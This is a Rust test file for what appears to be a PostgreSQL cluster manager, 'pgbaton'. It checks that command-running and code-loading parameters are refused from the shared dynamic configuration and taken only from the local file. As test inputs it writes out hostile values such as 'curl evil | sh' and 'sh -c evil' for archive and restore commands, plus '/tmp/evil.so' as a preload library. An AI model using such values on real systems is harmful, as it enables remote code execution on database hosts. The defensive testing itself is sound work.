//! Issue 11.5: parameters that run commands or load code come only from the local file.

use expect_test::expect;

use super::{BASE, load, no_env};
use crate::{DynamicConfig, LOCAL_ONLY_PARAMETERS, is_local_only, load_str, merged_parameters};

#[test]
fn every_local_only_parameter_is_refused_where_someone_asks_to_store_it() {
    for name in LOCAL_ONLY_PARAMETERS {
        let json =
            format!(r#"{{"ttl":30,"postgresql":{{"parameters":{{"{name}":"/bin/true"}}}}}}"#);
        let err = DynamicConfig::from_json_strict(&json).expect_err(name);
        let text = err.to_string();
        assert!(
            text.starts_with(&format!(
                "postgresql.parameters.{name}: refused in the dynamic configuration:"
            )),
            "{name}: {text}"
        );
        // Any spelling: PostgreSQL's names are case-insensitive.
        let upper = json.replace(name, &name.to_ascii_uppercase());
        assert!(DynamicConfig::from_json_strict(&upper).is_err(), "{upper}");
    }
    expect!["postgresql.parameters.archive_command: refused in the dynamic configuration: this parameter runs a command or loads code, so pgbaton takes it only from the local configuration file (postgresql.parameters of each member), never from the DCS /config key that PATCH /config, PUT /config and edit-config change"]
        .assert_eq(
            &DynamicConfig::from_json_strict(
                r#"{"postgresql":{"parameters":{"archive_command":"curl evil | sh"}}}"#,
            )
            .expect_err("refused")
            .to_string(),
        );
    // Asking for nothing is fine (a patch that deletes one leaves null behind only in JSON).
    let (ok, warnings) = DynamicConfig::from_json_strict(
        r#"{"postgresql":{"parameters":{"archive_command":"","work_mem":"8MB"}}}"#,
    )
    .expect("empty values ask for nothing");
    assert!(warnings.is_empty());
    assert!(!ok.parameters.contains_key("archive_command"));
    assert_eq!(
        ok.parameters.get("work_mem").map(String::as_str),
        Some("8MB")
    );
}

#[test]
fn one_already_in_the_dcs_is_ignored_with_a_warning() {
    let stored = r#"{"ttl":30,"postgresql":{"parameters":{"archive_mode":"on","archive_command":"cp %p /archive/%f","Shared_Preload_Libraries":"pg_stat_statements","work_mem":"8MB"}}}"#;
    let (dynamic, warnings) = DynamicConfig::from_json(stored).expect("read leniently");
    expect![[r#"
        [
            "postgresql.parameters.Shared_Preload_Libraries: ignored in the dynamic configuration: this parameter runs a command or loads code, so pgbaton takes it only from the local configuration file (postgresql.parameters of each member), never from the DCS /config key that PATCH /config, PUT /config and edit-config change",
            "postgresql.parameters.archive_command: ignored in the dynamic configuration: this parameter runs a command or loads code, so pgbaton takes it only from the local configuration file (postgresql.parameters of each member), never from the DCS /config key that PATCH /config, PUT /config and edit-config change",
        ]
    "#]]
    .assert_debug_eq(&warnings);
    expect![[r#"
        {
            "archive_mode": "on",
            "work_mem": "8MB",
        }
    "#]]
    .assert_debug_eq(&dynamic.parameters);
    // Not an unsupported key: nothing blocks, the rest of the configuration applies.
    assert!(dynamic.unsupported.is_empty());
    // `raw` keeps what was stored (show-config shows it as written).
    assert!(dynamic.to_json().contains("archive_command"));
}

#[test]
fn the_local_file_sets_them_and_bootstrap_dcs_may_not() {
    let yaml = BASE.replace(
        "  data_dir: data/postgresql0\n",
        "  data_dir: data/postgresql0\n  parameters:\n    archive_mode: on\n    archive_command: cp %p /archive/%f\n    shared_preload_libraries: pg_stat_statements\n",
    );
    let loaded = load(&yaml);
    assert!(loaded.warnings.is_empty(), "{:?}", loaded.warnings);
    let stored = r#"{"postgresql":{"parameters":{"archive_command":"curl evil | sh","restore_command":"sh -c evil","session_preload_libraries":"/tmp/evil.so"}}}"#;
    let (dynamic, _) = DynamicConfig::from_json(stored).expect("lenient");
    let merged = merged_parameters(&loaded.config, &dynamic);
    assert_eq!(
        merged.get("archive_command").map(String::as_str),
        Some("cp %p /archive/%f")
    );
    assert_eq!(
        merged.get("shared_preload_libraries").map(String::as_str),
        Some("pg_stat_statements")
    );
    assert!(!merged.contains_key("restore_command"));
    assert!(!merged.contains_key("session_preload_libraries"));

    // Even a DynamicConfig built by hand cannot bring one in.
    let mut forged = DynamicConfig::defaults();
    forged
        .parameters
        .insert("dynamic_library_path".into(), "/tmp".into());
    assert!(!merged_parameters(&loaded.config, &forged).contains_key("dynamic_library_path"));

    let with_dcs = format!(
        "{BASE}bootstrap:\n  dcs:\n    postgresql:\n      parameters:\n        archive_command: cp %p /archive/%f\n"
    );
    expect!["bootstrap.dcs.postgresql.parameters.archive_command: refused in the dynamic configuration: this parameter runs a command or loads code, so pgbaton takes it only from the local configuration file (postgresql.parameters of each member), never from the DCS /config key that PATCH /config, PUT /config and edit-config change"]
        .assert_eq(&load_str(&with_dcs, &no_env).expect_err("refused").to_string());
}

#[test]
fn the_list_is_matched_by_whole_names_in_any_case() {
    assert!(is_local_only("ARCHIVE_COMMAND"));
    assert!(is_local_only("jit_provider"));
    assert!(is_local_only("Hba_File"));
    assert!(is_local_only("ident_file"));
    assert!(!is_local_only("archive_mode"));
    assert!(!is_local_only("archive_timeout"));
    assert!(!is_local_only("archive_command_x"));
}

#[test]
fn hba_file_and_ident_file_come_only_from_the_local_file() {
    // Someone who can write /config must not point PostgreSQL at another pg_hba.conf (one
    // that trusts everyone, or /dev/null, which locks everyone out).
    for name in ["hba_file", "ident_file", "HBA_File"] {
        let json = format!(r#"{{"postgresql":{{"parameters":{{"{name}":"/tmp/evil.conf"}}}}}}"#);
        let text = DynamicConfig::from_json_strict(&json)
            .expect_err(name)
            .to_string();
        assert!(
            text.starts_with(&format!(
                "postgresql.parameters.{name}: refused in the dynamic configuration: this \
                 parameter points PostgreSQL at the file that decides who may connect"
            )),
            "{text}"
        );
        let (dynamic, warnings) = DynamicConfig::from_json(&json).expect("lenient");
        assert!(dynamic.parameters.is_empty(), "{:?}", dynamic.parameters);
        assert_eq!(warnings.len(), 1, "{warnings:?}");
        assert!(
            warnings[0].contains("ignored in the dynamic configuration"),
            "{warnings:?}"
        );
    }
    // The local file may set them (the administrator of the host chose the file).
    let yaml = BASE.replace(
        "  data_dir: data/postgresql0\n",
        "  data_dir: data/postgresql0\n  parameters:\n    hba_file: /etc/postgresql/pg_hba.conf\n",
    );
    let loaded = load(&yaml);
    let merged = merged_parameters(&loaded.config, &DynamicConfig::defaults());
    assert_eq!(
        merged.get("hba_file").map(String::as_str),
        Some("/etc/postgresql/pg_hba.conf")
    );
    let with_dcs = format!(
        "{BASE}bootstrap:\n  dcs:\n    postgresql:\n      parameters:\n        ident_file: /tmp/x\n"
    );
    assert!(load_str(&with_dcs, &no_env).is_err());
}
